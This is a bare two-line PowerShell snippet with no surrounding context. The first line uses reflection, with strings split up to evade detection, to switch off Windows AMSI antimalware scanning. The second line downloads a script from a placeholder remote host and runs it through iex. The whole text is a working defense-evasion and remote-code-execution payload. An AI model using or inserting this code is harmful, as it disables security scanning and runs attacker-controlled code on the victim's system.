[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils').GetField('amsi'+'InitF'+'ailed','NonPublic,Static').SetValue($null,$true)
iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')
